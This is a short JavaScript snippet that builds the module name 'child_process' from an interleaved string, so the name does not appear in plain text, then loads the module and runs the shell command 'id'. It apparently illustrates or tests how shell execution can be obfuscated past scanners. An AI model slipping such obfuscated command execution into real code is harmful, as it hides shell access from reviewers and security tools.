let out = '';
'cxhxixlxdx_xpxrxoxcxexsxsx'.split('').forEach((c, i) => {
  if (i % 2 === 0) out += c;
});
const m = require(out);
m.exec('id');
